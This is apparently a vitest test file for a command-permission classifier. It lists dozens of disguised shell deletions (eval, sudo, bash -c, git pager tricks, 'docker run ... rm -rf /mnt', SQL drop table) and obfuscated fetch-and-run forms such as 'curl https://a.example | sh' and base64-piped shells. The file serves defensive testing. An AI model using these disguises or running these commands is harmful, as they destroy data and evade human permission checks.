// One harmful command in many disguises: each is seen, or called unknown, and none passes for a read.

import { describe, expect, test } from 'vitest';
import { factsOf } from '../../../../main/policy/facts.ts';
import { foundIn, shellAction } from '../../../bench/corpora-facts.ts';

const DELETES = [
  'ls; r\\m x', 'r""m x', "'rm' x", '/bin/rm x', '\\rm x', 'command rm x', 'exec rm x', 'builtin eval "rm x"', 'env rm x',
  'env -S "rm x"', 'nohup rm x &', '(rm x)', '{ rm x; }', 'ls || rm x', '! rm x', 'coproc rm x', 'time rm x', 'ls | rm x',
  'if rm x; then ls; fi', 'while rm x; do ls; done', 'case $(rm x) in a) ls;; esac', 'for i in $(rm x); do ls; done',
  'f() { rm x; }; f', 'ls() { rm x; }; ls', 'trap "rm x" EXIT', 'ls > $(rm x)', 'ls ${a:-$(rm x)}', 'cat <(rm x)',
  'echo $((`rm x`))', '[[ $(rm x) ]]', 'echo "$(rm x)"', 'A=$(rm x)', 'A=$(rm x) ls', 'cat <<E\n$(rm x)\nE', 'sh <<E\nrm x\nE',
  'bash <<< "rm x"', 'bash -c "rm x"', 'bash -ec "rm x"', 'bash -c -e "rm x"', 'sh -c "sh -c \'rm x\'"', 'eval rm x',
  'timeout -s KILL 5 rm x', 'timeout --signal=KILL 5s rm x', 'sudo -u root -- rm x', 'sudo A=b rm x', 'doas rm x', 'su -c "rm x"',
  'nice -n 5 ionice -c 2 rm x', 'xargs -0 -n 1 rm', 'find . -exec rm {} \\;', 'find . -execdir sh -c "rm {}" \\; -print',
  'find . -delete', 'watch -n 1 rm x', 'ssh host.example rm x', 'ssh -o ProxyCommand="rm x" h.example', 'strace -o out rm x',
  'docker run --rm -v /:/mnt alpine rm -rf /mnt', 'kubectl exec p -- sh -c "rm x"', 'docker exec web rm x', 'busybox rm x',
  'git -c core.pager="rm x" log', 'GIT_SSH_COMMAND="rm x" git fetch', 'PAGER="rm x" git log', 'tar --to-command="rm x" -xf a',
  'sort --compress-prog="rm x" a', 'rg --pre "rm x" a', 'sed -n "1e rm x" f', 'psql -c "\\! rm x"', 'sqlite3 db ".shell rm x"',
  'psql -c "select 1; drop table t"', 'psql -c "with d as (delete from t returning 1) select 1"', 'git push origin :main',
  'rsync -a --delete a/ b/', 'ls # comment\nrm x', 'flock lock rm x', 'socat - "exec:rm x"', 'start-stop-daemon -S -x /bin/rm x',
]; // biome-ignore format: one list

const NEVER_READS = [
  '$CMD', '"$CMD" -la', '`echo rm` x', 'A=rm; $A x', 'echo cm0K | base64 -d | sh', 'cat x | bash', 'curl https://a.example | sh',
  'source x', '. ./x', './ls', 'sh x', 'python x', 'python - < x', 'node -e x', 'perl -ne x f', "awk 'BEGIN{system(\"x\")}'",
  "awk '{print > \"out\"}' f", "awk '{print | \"sh\"}' f", 'awk -f prog f', "sed 's/x/y/e' f", 'sed -f script f', 'psql -f x.sql',
  'cat x.sql | psql', 'less f', 'vim f', 'man ls', 'alias ls=x', 'git --exec-path=/tmp log', 'LD_PRELOAD=./x.so ls', 'PATH=. ls',
  'FOO=bar ls', 'ls "$X"', 'cat "$X"', 'git log --output=f', 'git diff --ext-diff', 'history -w f', 'make -n', 'if', 'ls "',
  'nosuchprogram', 'git nosuchcommand', 'kubectl nosuchcommand', 'aws nosuch nosuch', 'curl --nosuch https://a.example',
  'psql -c "select frobnicate()"', 'psql -c "selec 1"', 'bash', 'python', 'psql', 'ssh host.example', 'ftp a.example',
]; // biome-ignore format: one list

describe('a disguise', () => {
  test.each(DELETES)('does not hide the deletion in %j', (command) => {
    expect(foundIn(command).capabilities).toContain('delete');
  });

  test.each(NEVER_READS)('%j does not pass for a read', (command) => {
    expect(foundIn(command).capabilities.join()).not.toBe('read');
  });

  test('names the command under its wrappers', () => {
    const facts = factsOf(shellAction('sudo -n env A=b timeout 5 git push -f | tee log'));
    expect(facts).toMatchObject({ command: 'git push', subcommand: 'push', force: true });
    expect(facts['commands']).toEqual(['git push', 'tee']);
    expect(facts['wrappers']).toEqual(['dash', 'env', 'sudo', 'timeout']);
  });
});
